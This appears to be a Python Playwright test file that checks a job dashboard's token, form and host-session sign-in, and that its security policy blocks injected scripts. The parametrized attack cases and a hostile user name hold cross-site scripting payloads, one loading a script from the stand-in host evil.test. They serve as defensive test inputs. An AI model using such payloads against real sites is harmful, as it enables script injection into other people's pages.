"""Who sees the dashboard, and how: by link, by form, by the host's session; and what never runs."""

import pytest
from fastapi import FastAPI
from playwright.async_api import Error, expect

from forge.http import create_app
from tests.browser.dashboard.conftest import MANAGER, Dashboard
from tests.browser.dashboard.jobs import HOSTILE
from tests.browser.dashboard.test_everywhere import NARROW, RUN_AXE, TOO_WIDE, axe
from tests.faults.kit.process import until
from tests.http.conftest import AUTH, Serve
from tests.http.dashboard.test_host_session import HostSession


async def test_link_signs_in_and_leaves_no_token_in_the_address(dashboard: Dashboard) -> None:
    page = await dashboard.new_page()
    token = dashboard.token(*MANAGER)

    await page.goto(f"{dashboard.address}/#token={token}")

    await expect(page.get_by_text("ann", exact=True)).to_be_visible()
    assert token not in page.url
    await page.go_back()
    assert token not in page.url
    await page.goto(dashboard.address)
    await expect(page.get_by_text("ann", exact=True)).to_be_visible()
    await page.get_by_role("button", name="Sign out").click()
    await expect(page.get_by_label("Token")).to_be_focused()
    assert await page.evaluate("JSON.stringify({...sessionStorage, ...localStorage})") == "{}"
    # Before the tab had a token, it asked whether the host has a session.


async def test_form_signs_in_and_explains_a_wrong_token(dashboard: Dashboard) -> None:
    page = await dashboard.new_page()
    await page.goto(dashboard.address)
    await expect(page.get_by_text("staging")).to_be_visible()

    await page.get_by_label("Token").fill("nonsense")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("alert")).to_contain_text("does not accept this token")
    await page.evaluate(axe())
    await page.set_viewport_size({"width": NARROW, "height": 740})
    for theme in ("light", "dark"):
        await page.emulate_media(color_scheme=theme)
        assert await page.evaluate(RUN_AXE) + await page.evaluate(TOO_WIDE) == []
    await page.set_viewport_size({"width": 1280, "height": 900})
    name = HOSTILE.replace("\u202e", "")  # a name is printable
    await page.get_by_label("Token").fill(dashboard.token("user", tenant=7, name=name))
    await page.get_by_role("button", name="Sign in").click()

    await expect(page.get_by_text("user · tenant 7")).to_be_visible()
    await expect(page.get_by_text("onerror=alert(1)", exact=False)).to_be_visible()
    dashboard.provoke("401")


async def test_expired_token_returns_to_the_form(dashboard: Dashboard) -> None:
    page = await dashboard.open("/jobs")
    dashboard.api.state.authenticator.identify_token = dashboard.api.state.authenticator.identify

    await page.reload()

    await expect(page.get_by_role("alert")).to_contain_text("no token")
    dashboard.provoke("401")


async def test_session_of_the_host_needs_no_form_under_any_prefix(
    dashboard: Dashboard, api_url: str, serve: Serve
) -> None:
    app = dashboard.app.clone()
    app.database_url = api_url
    app.config = app.config.model_copy(update={"auth": AUTH})
    host = FastAPI()
    host.mount("/internal/forge", create_app(app, authenticator=HostSession.of(app.config)))
    address = await serve(host)
    await dashboard.context.add_cookies([{"name": "session", "value": "of-ann", "url": address}])
    page = await dashboard.new_page()

    job = await dashboard.app.dispatch("greet", {"text": "hello"})
    await page.goto(f"{address}/internal/forge#/jobs")

    await page.get_by_role("link", name="greet").click()
    await expect(page.get_by_text(f"{job.id}").first).to_be_visible()
    await expect(page.get_by_role("button", name="Sign out")).to_have_count(0)
    await app.close()


async def test_planted_inline_style_fails_the_suite(dashboard: Dashboard) -> None:
    page = await dashboard.open("/jobs")
    await page.evaluate("document.querySelector('h1').setAttribute('style', 'color: red')")
    await until(lambda: len(dashboard.problems) > 1, 10, "the policy is reported")

    with pytest.raises(AssertionError, match="style-src"):
        dashboard.check()
    dashboard.provoke("^policy: style-src-attr")
    dashboard.provoke("^error: .*inline style")


@pytest.mark.parametrize(
    "attack",
    [
        "() => { document.body.innerHTML = '<img src=x>' }",
        "() => { document.createElement('script').src = 'https://evil.test/x.js' }",
        "() => { setTimeout('alert(1)') }",
    ],
)
async def test_scripts_from_text_are_blocked(dashboard: Dashboard, attack: str) -> None:
    page = await dashboard.open("/jobs")

    with pytest.raises(Error, match="Trusted"):
        await page.evaluate(attack)

    dashboard.provoke("^policy: .*trusted-types|Trusted")
    await expect(page.get_by_role("heading", name="Jobs")).to_be_visible()
